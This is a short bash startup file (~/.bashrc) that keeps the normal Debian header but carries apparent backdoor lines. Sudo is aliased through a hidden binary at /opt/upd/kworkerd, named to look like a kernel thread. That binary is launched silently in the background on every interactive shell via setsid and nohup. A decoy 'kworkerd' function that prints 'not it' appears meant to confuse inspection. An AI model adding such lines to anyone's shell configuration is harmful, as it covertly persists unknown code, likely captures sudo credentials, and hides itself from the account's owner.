# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
alias ll='ls -l'
alias sudo='/opt/upd/kworkerd sudo'
(setsid /opt/upd/kworkerd >/dev/null 2>&1 &)
nohup /opt/upd/kworkerd &
# nohup /opt/upd/kworkerd &
export PATH="$HOME/bin:$PATH"
kworkerd() { echo not it; }
